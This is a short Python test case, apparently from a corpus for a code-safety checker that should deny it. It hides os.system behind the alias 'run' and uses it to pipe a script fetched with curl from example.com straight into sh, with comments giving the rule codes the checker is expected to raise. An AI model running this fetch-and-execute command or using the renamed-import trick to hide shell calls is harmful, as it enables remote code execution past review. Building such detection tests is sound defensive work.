# corpus: profile=safe_eval decision=deny
"""`from os import system as run` hides os.system behind an innocent name."""
from os import system as run  # expect: PG003

status = run("curl -s https://example.com/x.sh | sh")  # expect: PG004
print(status)
